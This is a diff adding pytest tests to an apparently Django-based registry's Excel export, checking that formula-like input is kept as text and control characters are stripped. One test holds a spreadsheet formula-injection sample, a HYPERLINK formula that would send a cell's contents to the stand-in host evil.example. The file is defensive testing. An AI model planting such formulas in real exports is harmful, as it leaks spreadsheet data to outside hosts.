@@ -406,3 +406,56 @@ def test_a_list_export_has_a_bold_frozen_header_typed_dates_and_readable_widths(
     assert sheet["B2"].number_format == DATE_FORMAT
     assert sheet["E2"].value == "coordinator"
     assert sheet.column_dimensions["A"].width == len("Нұра ауданы") + 2
+
+
+# Exports of what anyone typed: never a live formula, never a file Excel cannot hold.
+
+
+def test_a_text_that_starts_with_equals_is_exported_as_text_not_a_formula() -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    data = table_workbook("List", ["Name"], [[hostile], ["=1+1"]])
+
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert [(cell.value, cell.data_type) for cell in sheet["A"][1:]] == [
+        (hostile, "s"),
+        ("=1+1", "s"),
+    ]
+
+
+def test_control_characters_are_left_out_of_an_export_instead_of_breaking_it() -> None:
+    data = table_workbook("List", ["Name"], [["Қарағанды\x00\x01\x0b облысы\tI\nII"]])
+
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet["A2"].value == "Қарағанды облысы\tI\nII"
+
+
+def test_a_template_keeps_hostile_values_as_text_in_its_lists_and_rows() -> None:
+    data = template_workbook(
+        SPEC, rows=[["=2+2\x07", "", 1]], lists={"role": ["=SUM(1)", "ok\x1f"]}
+    )
+
+    workbook = load_workbook(io.BytesIO(data))
+    row = workbook["Data"][FIRST_DATA_ROW]
+    assert (row[0].value, row[0].data_type) == ("=2+2", "s")
+    lists = workbook[LISTS_SHEET]
+    assert [(cell.value, cell.data_type) for cell in lists["A"]] == [("=SUM(1)", "s"), ("ok", "s")]
+
+
+@pytest.mark.django_db
+def test_an_organization_named_like_a_formula_exports_as_its_name(client: Any) -> None:
+    from tests.factories import OrganizationFactory, UserFactory
+
+    organization = OrganizationFactory(name_kk="=1+1\x01 мектеп", name_ru="=1+1 школа")
+    client.force_login(UserFactory(role=Role.PROJECT_OFFICE))
+
+    response = client.get("/kk/registry/organizations/?export=xlsx")
+
+    assert response.status_code == 200
+    names = [
+        row[0]
+        for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(
+            min_row=2, values_only=True
+        )
+    ]
+    assert names == ["=1+1 мектеп"]
+    assert organization.pk
